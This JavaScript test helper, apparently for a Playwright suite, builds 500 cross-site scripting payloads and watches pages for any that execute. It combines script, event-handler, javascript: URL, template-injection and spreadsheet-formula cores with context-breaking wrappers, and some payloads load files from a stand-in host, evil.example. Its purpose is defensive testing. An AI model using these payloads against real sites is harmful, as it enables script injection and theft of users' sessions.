// Texts that would run if a page took them for markup or code, and the watch that notices when one does.
//
// Each calls `metkaXss(N)` with its own number, by which it is found on a page as text. A page under a strict policy
// would stop most of them even where they got in, so the watch looks for more than calls: reports of the policy,
// dialogs, errors, and what the markup of a payload leaves in a document.

export const COUNT = 500;

/** What runs `CALL` in one place or another of a page. `PROBE` is an element that no page of ours has. */
const CORES = [
  '<script>CALL</script>',
  '<script src=//evil.example/x.js></script>PROBE',
  '<script type=module>import("data:text/javascript,CALL")</script>',
  '<img src=x onerror=CALL>',
  '<img src=x onerror="CALL">PROBE',
  '<svg onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg onload=CALL>"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CALL></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<iframe src="javascript:parent.CALL"></iframe>',
  '<object data="javascript:CALL"></object>',
  '<embed src="javascript:CALL">',
  '<body onpageshow=CALL>',
  '<details open ontoggle=CALL>PROBE</details>',
  '<input autofocus onfocus=CALL>',
  '<select autofocus onfocus=CALL></select>',
  '<video><source onerror=CALL></video>',
  '<audio src=x onerror=CALL>',
  '<marquee onstart=CALL>PROBE</marquee>',
  '<style onload=CALL></style>',
  '<style>@import "//evil.example/x.css";</style>PROBE',
  '<link rel=stylesheet href=//evil.example/x.css onerror=CALL>',
  '<base href=//evil.example/>PROBE',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<form action="javascript:CALL"><button autofocus>PROBE</button></form>',
  '<a href="javascript:CALL">PROBE</a>',
  '<template><img src=x onerror=CALL></template>PROBE',
  '<div style="background:url(javascript:CALL)" onmouseover=CALL>PROBE</div>',
  '<b data-metka-xss onclick=CALL>PROBE</b>',
  '{{constructor.constructor("CALL")()}}',
  '${CALL}',
  '#{CALL}',
  'javascript:CALL',
  'data:text/html,<script>CALL</script>',
  "';CALL;//",
  '";CALL;//',
  '`-CALL-`',
  '\\";CALL;//',
];

/** What closes the place in which a text may stand. */
const BREAKS = [
  core => core,
  core => `">${core}`,
  core => `'>${core}`,
  core => `</title>${core}`,
  core => `</textarea></script>${core}`,
  core => `</style></svg>${core}<!--`,
  core => `--><![CDATA[${core}]]>`,
  core => `" autofocus onfocus=CALL x="${core}`,
  core => `\u2028${core}\u202e`,
  core => core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  core => core.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  core => core.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  core => `=HYPERLINK("javascript:CALL","${core}")`,
];

/** All of them, in an order that mixes both lists. */
export const PAYLOADS = Array.from({ length: COUNT }, (_, index) => {
  const make = BREAKS[(index + Math.floor(index / CORES.length)) % BREAKS.length];
  return make(CORES[index % CORES.length]).replaceAll('CALL', `metkaXss(${index})`).replaceAll('PROBE', '<b data-metka-xss>probe</b>');
});

/** Elements that only a payload makes. */
export const TRACES = '[data-metka-xss], [onerror], [onload], [onfocus], [onbegin], [onclick], [onmouseover], [ontoggle], [onstart], [onpageshow], iframe, object, embed, base, marquee, mglyph, meta[http-equiv=refresh], [href*="evil.example"], [src*="evil.example"]';
/** Links that run code; what they say is another matter. */
const LINKS = 'a, area, form, button, use';

/** What is said on the console about the policy, and of code that failed. */
const REPORTED = /content.security.policy|trusted ?types?|trusted ?html|violat|refused to/i;

/** Watches every page of a context; returns what it noticed so far. */
export async function watch(context) {
  const noticed = [];
  await context.exposeBinding('metkaXss', ({ page }, number) => noticed.push(`script ${number} ran on ${page.url()}`));
  await context.exposeBinding('metkaTestReport', (_, text) => noticed.push(text));
  await context.addInitScript(() =>
    addEventListener('securitypolicyviolation', event =>
      globalThis.metkaTestReport(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample} on ${location.href}`),
    ),
  );
  context.on('dialog', dialog => {
    noticed.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('console', message => REPORTED.test(message.text()) && noticed.push(`console: ${message.text()}`));
  context.on('weberror', error => noticed.push(`error: ${error.error()}`));
  return noticed;
}

/** What markup of a payload left in the document, and the numbers of the payloads that stand there as text. */
export const look = page =>
  page.evaluate(
    ([traces, links]) => {
      const runs = element =>
        ['href', 'xlink:href', 'action', 'formaction'].some(name => /^\s*(javascript|data|vbscript):/i.test(element.getAttribute(name) ?? ''));
      const left = [
        ...document.querySelectorAll(traces),
        ...[...document.querySelectorAll(links)].filter(runs),
        ...[...document.querySelectorAll('script')].filter(script => /metkaXss/.test(script.textContent) && script.type !== 'application/json'),
      ].map(element => element.outerHTML.slice(0, 200));
      const shown = [];
      const walker = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const { parentElement: parent } = node;
        if (['SCRIPT', 'STYLE', 'TEMPLATE', 'NOSCRIPT'].includes(parent.tagName) || !parent.checkVisibility()) continue;
        shown.push(...[...node.data.matchAll(/metkaXss\((\d+)\)/gi)].map(found => Number(found[1])));
      }
      return { left, shown: [...new Set(shown)] };
    },
    [TRACES, LINKS],
  );
